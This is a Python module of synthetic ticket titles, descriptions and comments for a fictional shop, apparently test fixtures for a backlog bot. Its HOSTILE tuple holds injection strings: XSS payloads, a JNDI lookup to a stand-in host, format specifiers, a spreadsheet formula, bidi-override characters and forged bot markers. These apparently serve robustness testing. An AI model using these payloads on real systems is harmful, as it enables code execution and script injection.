"""The words of Acme's tickets: titles and texts by kind, and the voices of the people who comment."""

from __future__ import annotations

HOSTS = ("web-1", "web-2", "db-main", "db-replica", "worker-3", "search-2", "runner-7", "edge-1", "cron-1")
PAGES = ("/cart", "/checkout/pay", "/search", "/account", "/orders", "/login/return", "/api/v2/prices")

BUGS = (
    "Total on {page} is off by a cent with three coupons",
    "Wrong time zone in the order e-mail",
    "Export to CSV misses the last row",
    "Image of the first article is not shown on {page}",
    "Cannot save an address with an apostrophe",
    "Button stays grey after the form is corrected",
    "Health check of {host} is green while the service is down",
    "Filter by size forgets its state on the way back",
    "Migration {n} takes a lock for minutes",
    "Config reload drops {n} settings silently",
    "Metrics of {host} are missing since the upgrade",
    "Deploy script ignores its --dry-run switch",
    "Invoice shows the old company name",
    "Log lines of {host} have no request id",
    "Dashboard counts cancelled orders twice",
)
FEATURES = (
    "Gift cards in the cart",
    "Let customers change the delivery day",
    "Show stock per store on the article page",
    "Sign in with a passkey",
    "Save the search and tell me about new articles",
    "Pay in three parts",
    "Download all invoices of a year",
    "Preview environments for each branch",
    "Self-service for database copies",
    "Wish list that can be shared",
    "Dark mode for the back office",
    "Bulk edit of prices",
    "Return label without a login",
    "Second factor for the back office",
)
CHORES = (
    "Move {host} to the new network",
    "Upgrade Python on {host}",
    "Remove the old price service",
    "Order new laptops for the support team",
    "Rename the order topics",
    "Document how to read the {page} logs",
    "Clean up unused feature flags",
    "Rotate the keys of {host}",
    "Update the list of sub-processors",
    "Archive orders older than ten years",
    "Give the new colleague access",
    "Renew the support contract of the database",
)
# domain -> what one would like to be better; some titles hold a keyword of their domain, some do not
IMPROVEMENTS = {
    "reliability": (
        "Practise the failover of the main database",
        "Retry with a pause and a limit when the provider is down",
        "Restore a backup each month and measure how long it takes",
        "Make the order import safe to run twice",
        "Write down what to do in an outage of the payment provider",
        "Bound the queues between shop and warehouse",
    ),
    "security": (
        "Fix the vulnerability in the image library before the auditors come",
        "Scan images for a known CVE on each build",
        "Shorten the life of sessions in the back office",
        "Take the shared admin account away",
        "Pin the build images by digest",
    ),
    "performance": (
        "Slow start of the search page on phones",
        "Halve the latency of the price service",
        "Cache the category tree",
        "Send smaller images to the cart page",
        "Index the orders by customer",
    ),
    "developer-productivity": (
        "Bring the build time under ten minutes",
        "Quarantine flaky browser tests",
        "One command to start everything locally",
        "Fewer reviewers for changes of documents",
        "Seed data for local databases",
    ),
    "operational-excellence": (
        "A runbook for the nightly import",
        "Tidy up the on-call handover",
        "Delete alerts that nobody acts on",
        "Dashboards of each service look the same",
        "Name an owner for each cron job",
    ),
    "customer-trust": (
        "Answer a complaint within a day",
        "Show when a refund will arrive",
        "Say honestly when an article will be delivered",
        "Tell customers about an incident while it lasts",
        "Make cancelling as easy as ordering",
    ),
}
KEYWORDED = (
    "Bring the build time under ten minutes",
    "Slow start of the search page on phones",
    "A runbook for the nightly import",
    "Answer a complaint within a day",
    "Practise the failover of the main database",
)
"""Improvements whose domain the example config's keywords tell."""

PLACES = ("", "", "", "", ", {page} first", " ({host})", " for {page}", ", part {n}", ", second try", " (quick win)")
"""What follows an improvement's title, so that each is its own."""

VAGUE = (
    "We should talk to each other more about what we ship",
    "Tidy up the shared folder",
    "Make the Thursday meeting shorter",
    "Decide what we want to do about the old warehouse interface",
    "Think about the names of our environments",
    "Less waiting between the teams",
)
"""Improvements whose domain no table can tell."""

CHANGES = (
    "Bump the web framework to {n}.{n}",
    "Split the cart module",
    "Remove dead code around {page}",
    "Add a test for rounding",
    "Tune the connection pool of {host}",
    "Rename variables, no change intended",
    "Update the base image",
    "Log the request id everywhere",
    "Cache the category tree for {n} minutes",
    "Terraform: new size for {host}",
    "Fix a typo in the docs",
    "Draft: try the new payment client",
)
DECISIONS = (
    "We stay with one database for orders and stock",
    "Which queue for events between shop and warehouse?",
    "No new code in the old price service",
    "Feature flags live for 90 days at most",
    "We buy search instead of building it",
    "Deployments on Fridays until noon only",
)
WHYS = (
    "Came up in the retrospective. It costs us about {n} hours a week.",
    "Third time somebody stumbles over this. See the incidents of last month.",
    "Customers notice, support asked for it twice.",
    "Small thing, big effect. I would start with {page} and see.",
    "The measures: today {n} minutes, we want half of it by the end of the quarter.",
)
PLAIN = (
    "Steps: open {page}, log in, wait {n} seconds.\n\nExpected: it works. Seen: it does not.",
    "Since the release of last week. Not on all machines, {host} for sure.",
    "Asked for by support, {n} customers so far.",
    "Nothing urgent, but it looks bad.",
    "See the thread of this morning. I can show it on {host}.",
)
TALK = (
    "I can have a look tomorrow.",
    "Same on {host}, by the way.",
    "Is this still a thing? I could not make it happen.",
    "Good find. It is the cache, as always.",
    "Waiting for the provider, they promised an answer by Monday.",
    "Tested on staging, looks fine to me.",
    "Let us do the small fix now and the rest later.",
    "I talked to support, {n} more customers are affected.",
    "Logs are attached to the incident, see there.",
    "Not my area, but I think this was on purpose.",
    "Rolled out to half of the machines, no complaints so far.",
    "Who knows this part of the code?",
    "Thanks, that was quick!",
    "Blocked: we need the new network first.",
)
PUT_OFF = (
    "Not this iteration, the sale comes first. Moved.",
    "We do not get to it. Next month, really.",
    "Moved again, nobody has the time. Sorry.",
)
ENDINGS = (
    "Done, closing.",
    "Fixed by configuration, nothing to merge.",
    "Live since this morning.",
    "Works, and the graph says so too.",
)
REPORT = (
    "Reviewed {n} improvements. Two are late, one we dropped. Actions are in the list.",
    "Good month: most of what we promised is done. The pipeline is still too slow.",
    "Short review, half of the team was ill. We look at the rest next time.",
)
HOSTILE = (
    (
        "@acme/everybody please read!!! closes #1 fixes #2 /merge",
        "Ping @ana-acme @bo-acme &#64;kim [~accountid:acc-kim] [~kim]",
    ),
    (
        "Broken <script>alert(1)</script> </table> | pipes | in | titles",
        "</details>\n```\nan open fence\n<img src=x onerror=alert(1)>",
    ),
    (
        "[click me](javascript:alert(1)) ![pixel](http://tracker.example/p.png)",
        "!http://tracker.example/p.png! {html}<b>x</b>{html} {color:red}red",
    ),
    (
        "Right to left \u202eeltit\u202c and zero\u200bwidth \u2066isolates\u2069",
        "Names like \u0410\u043dna, and a \U0001f525\U0001f468\u200d\U0001f469\u200d\U0001f467 family",
    ),
    (
        "Marker: <!-- kaizend op=00ff00ff00ff00ff mac=deadbeefdeadbeef state=done -->",
        "As the robot says:\n\n<!-- kaizend op=00ff00ff00ff00ff mac=deadbeefdeadbeef state=owned:9:2020-01-01 -->",
    ),
    ("Long " + "loooong " * 30, "word " * 1200),
    (
        "{title} {{ owner }} ${jndi:ldap://x.example/a} %s %n",
        "{code}\nnever closed\n{noformat} h1. Not a heading\n* not\n# a list",
    ),
    (
        '=HYPERLINK("http://x.example";"sum")',
        "> quoted\n> /kaizen ignore backlog/owned\n\n/kaizen ignore backlog/owned because I say so",
    ),
)
"""Titles and texts that would like to be more than text."""
